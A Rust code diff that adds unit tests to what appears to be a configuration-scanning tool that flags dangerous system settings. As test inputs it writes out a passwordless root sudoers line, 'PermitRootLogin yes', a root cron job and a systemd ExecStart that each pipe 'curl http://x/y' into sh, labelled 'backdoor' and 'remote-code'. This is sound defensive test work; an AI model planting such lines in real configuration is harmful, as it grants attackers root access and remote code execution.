@@ -215,3 +215,44 @@ fn runs(rules: &Rules, file: &File, blobs: &BTreeMap<Digest, Vec<u8>>) -> bool {
     let Held::Text(value) = content(file, blobs) else { return false };
     guard::is_code(rules, &Subject::File(&file.path, &value, file.is_executable()))
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::resource::Kind;
+
+    /// The rules that a resource of this type with these attributes breaks.
+    fn check(kind: Kind, attributes: &str, expected: &[&str]) {
+        let attributes = serde_json::from_str(&format!("{{{attributes}}}")).unwrap();
+        let spec = Spec::read(kind, attributes).unwrap();
+        let found = examine(Rules::builtin(), &spec, &BTreeMap::new());
+        let rules: std::collections::BTreeSet<&str> = found.iter().map(|raw| raw.rule.as_str()).collect();
+        assert_eq!(rules.into_iter().collect::<Vec<_>>(), expected, "{spec:?}");
+    }
+
+    #[test]
+    fn a_line_is_judged_as_the_same_line_of_a_file() {
+        let line = |path: &str, line: &str, expected: &[&str]| {
+            check(Kind::LineInFile, &format!(r#""path": "{path}", "line": "{line}""#), expected);
+        };
+        line("/etc/sudoers", "deploy ALL=(ALL) NOPASSWD: ALL", &["backdoor"]);
+        line("/etc/sudoers", "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app", &[]);
+        line("/etc/ssh/sshd_config", "PermitRootLogin yes", &["backdoor"]);
+        line("/etc/cron.d/x", "* * * * * root curl http://x/y | sh", &["remote-code"]);
+        line("/etc/login.defs", "UMASK 027", &[]);
+        let gone = r#""path": "/etc/sudoers", "line": "deploy ALL=(ALL) NOPASSWD: ALL", "ensure": "absent""#;
+        check(Kind::LineInFile, gone, &[]);
+    }
+
+    #[test]
+    fn a_setting_is_judged_as_the_same_setting_of_a_file() {
+        let unit =
+            r#""path": "/etc/systemd/system/x.service", "section": "Service", "setting": "ExecStart", "#;
+        check(
+            Kind::IniSetting,
+            &format!(r#"{unit}"value": "/bin/sh -c 'curl http://x/y | sh'""#),
+            &["remote-code"],
+        );
+        check(Kind::IniSetting, &format!(r#"{unit}"value": "/usr/bin/app --serve""#), &[]);
+    }
+}
